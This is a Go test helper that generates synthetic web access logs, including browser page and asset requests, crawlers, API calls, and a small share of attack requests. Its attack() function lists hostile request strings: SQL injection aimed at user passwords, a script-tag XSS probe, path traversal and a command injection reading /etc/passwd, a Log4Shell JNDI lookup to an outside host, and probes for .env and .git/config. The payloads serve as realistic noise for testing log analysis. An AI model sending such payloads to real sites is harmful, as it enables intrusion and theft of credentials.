package offline_test

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"time"
)

// traffic makes up an access log in combined format: people with browsers who load pages with their assets, crawlers, an
// application's client, and one line in a hundred that attacks. The same seed gives the same log.
type traffic struct {
	r       *rand.Rand
	clients int
	at      time.Time
	step    time.Duration
	agents  []string
	popular *rand.Zipf // rank of an agent
	pages   *rand.Zipf
	open    []visit // pages that are being loaded
}

// visit is one page whose assets are still to come.
type visit struct {
	addr  netip.Addr
	agent string
	page  string
	left  int
}

func newTraffic(seed uint64, clients int, over time.Duration, lines int) *traffic {
	r := rand.New(rand.NewPCG(seed, 7))
	t := &traffic{r: r, clients: clients, at: time.Date(2026, 1, 5, 0, 0, 0, 0, time.UTC), step: over / time.Duration(lines)}
	for i := range 6000 {
		t.agents = append(t.agents, browser(r, i))
	}
	t.popular = rand.NewZipf(r, 1.2, 8, uint64(len(t.agents)-1))
	t.pages = rand.NewZipf(r, 1.1, 20, 40_000)
	return t
}

func browser(r *rand.Rand, i int) string {
	os := []string{"Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64", "Linux; Android 14; Pixel 7",
		"Linux; Android 13; SM-A546B", "Windows NT 10.0; WOW64"}[r.IntN(6)]
	switch i % 5 {
	case 0:
		v := 100 + r.IntN(35)
		return fmt.Sprintf("Mozilla/5.0 (%s; rv:%d.0) Gecko/20100101 Firefox/%d.0", os, v, v)
	case 1:
		return fmt.Sprintf("Mozilla/5.0 (iPhone; CPU iPhone OS %d_%d like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%d.%d Mobile/15E%d Safari/604.1",
			14+r.IntN(5), r.IntN(8), 14+r.IntN(5), r.IntN(8), 100+r.IntN(200))
	}
	return fmt.Sprintf("Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.%d.%d Safari/537.36", os, 90+r.IntN(45), 4000+r.IntN(2500), r.IntN(200))
}

// line appends the next line.
func (t *traffic) line(b []byte) []byte {
	t.at = t.at.Add(t.step)
	switch n := t.r.IntN(100); {
	case n == 0:
		return t.attack(b)
	case n < 12:
		return t.crawler(b)
	case n < 22:
		return t.api(b)
	case n < 75 && len(t.open) > 0:
		return t.asset(b)
	}
	return t.page(b)
}

func (t *traffic) address() netip.Addr {
	// Some addresses are much busier than others.
	n := t.r.IntN(t.clients)
	if t.r.IntN(3) == 0 {
		n = int(float64(t.clients) * t.r.Float64() * t.r.Float64() * t.r.Float64())
	}
	x := uint32(n)*2654435761 | 1<<24
	return netip.AddrFrom4([4]byte{byte(x>>24)%223 + 1, byte(x >> 16), byte(x >> 8), byte(x)})
}

func (t *traffic) write(b []byte, a netip.Addr, method, target string, code, size int, referer, agent string) []byte {
	b = a.AppendTo(b)
	b = append(b, " - - ["...)
	b = t.at.AppendFormat(b, "02/Jan/2006:15:04:05 -0700")
	b = append(b, `] "`...)
	b = append(b, method...)
	b = append(b, ' ')
	b = append(b, target...)
	b = append(b, ` HTTP/1.1" `...)
	b = strconv.AppendInt(b, int64(code), 10)
	b = append(b, ' ')
	b = strconv.AppendInt(b, int64(size), 10)
	b = append(b, ` "`...)
	b = append(b, referer...)
	b = append(b, `" "`...)
	b = append(b, agent...)
	return append(b, "\"\n"...)
}

func (t *traffic) page(b []byte) []byte {
	words := []string{"summer", "offers", "shoes", "garden", "kitchen", "how-to-choose", "best", "guide", "select", "union-street", "script"}
	id := int(t.pages.Uint64())
	page := fmt.Sprintf("/%s/%s-%s-%d", words[id%3], words[id%7], words[id%11], id)
	switch t.r.IntN(10) {
	case 0:
		page = "/search?q=" + words[t.r.IntN(11)] + "+" + words[t.r.IntN(11)] + "&page=" + strconv.Itoa(t.r.IntN(20))
	case 1:
		page = fmt.Sprintf("/product/%d?color=%s&size=%d", t.r.IntN(200_000), words[t.r.IntN(11)], t.r.IntN(50))
	case 2:
		page = fmt.Sprintf("/?utm_source=newsletter&utm_medium=email&utm_campaign=%s%%20%d", words[t.r.IntN(11)], t.r.IntN(50))
	}
	v := visit{t.address(), t.agents[t.popular.Uint64()], page, 1 + t.r.IntN(8)}
	if len(t.open) < 2000 {
		t.open = append(t.open, v)
	}
	referer := "-"
	switch t.r.IntN(4) {
	case 0:
		referer = "https://www.google.com/"
	case 1:
		referer = fmt.Sprintf("https://www.google.com/search?q=%s+%s&hl=en&sa=%d", words[t.r.IntN(11)], words[t.r.IntN(11)], t.r.IntN(9000))
	case 2:
		referer = "https://shop.example/" + words[t.r.IntN(11)] + "/"
	}
	code := 200
	if n := t.r.IntN(100); n < 3 {
		code = 404
	} else if n < 10 {
		code = 304
	}
	return t.write(b, v.addr, "GET", page, code, 2000+t.r.IntN(60_000), referer, v.agent)
}

func (t *traffic) asset(b []byte) []byte {
	i := t.r.IntN(len(t.open))
	v := &t.open[i]
	asset := []string{"/static/css/main.%d.css", "/static/js/app.%d.js", "/images/product/%d.jpg", "/images/icons/%d.svg", "/fonts/body-%d.woff2"}[t.r.IntN(5)]
	b = t.write(b, v.addr, "GET", fmt.Sprintf(asset, t.r.IntN(300)), 200, 500+t.r.IntN(200_000), "https://shop.example"+v.page, v.agent)
	if v.left--; v.left == 0 {
		t.open[i] = t.open[len(t.open)-1]
		t.open = t.open[:len(t.open)-1]
	}
	return b
}

func (t *traffic) crawler(b []byte) []byte {
	n := t.r.IntN(4)
	agent := []string{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
		"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"}[n]
	code := 200
	if t.r.IntN(12) == 0 {
		code = 404
	}
	a := netip.AddrFrom4([4]byte{66, 249, byte(64 + n), byte(t.r.IntN(250))})
	return t.write(b, a, "GET", fmt.Sprintf("/archive/%d/%02d/entry-%d", 2000+t.r.IntN(26), 1+t.r.IntN(12), t.r.IntN(100_000)), code, 9000, "-", agent)
}

func (t *traffic) api(b []byte) []byte {
	code, method := 200, "GET"
	switch t.r.IntN(60) {
	case 0:
		code = 500
	case 1:
		code = 401
	case 2, 3, 4:
		method, code = "POST", 201
	}
	return t.write(b, t.address(), method, fmt.Sprintf("/api/v1/orders/%d/items?limit=%d", t.r.IntN(1_000_000), 10*t.r.IntN(10)), code, 800, "-", "ShopApp/5.12 (Android 14) okhttp/4.12.0")
}

func (t *traffic) attack(b []byte) []byte {
	targets := []string{"/product/%d?id=1%%27%%20UNION%%20SELECT%%20user,password%%20FROM%%20users--", "/search?q=%%3Cscript%%3Ealert(%d)%%3C/script%%3E",
		"/download?file=../../../../etc/passwd%%00%d", "/.env?%d", "/wp-login.php?%d", "/.git/config?%d", "/cgi-bin/%d.cgi?x=;cat%%20/etc/passwd",
		"/?x=${jndi:ldap://203.0.113.7/%d}", "/backup%d.zip", "/phpmyadmin/index.php?%d", "/login?user=admin%%27--&n=%d", "/vendor/phpunit/%d"}
	agent := "Mozilla/5.0 zgrab/0.x"
	if t.r.IntN(3) > 0 {
		agent = t.agents[t.popular.Uint64()]
	}
	a := netip.AddrFrom4([4]byte{185, 220, byte(t.r.IntN(8)), byte(t.r.IntN(250))})
	return t.write(b, a, "GET", fmt.Sprintf(targets[t.r.IntN(len(targets))], t.r.IntN(1000)), 404, 400, "-", agent)
}
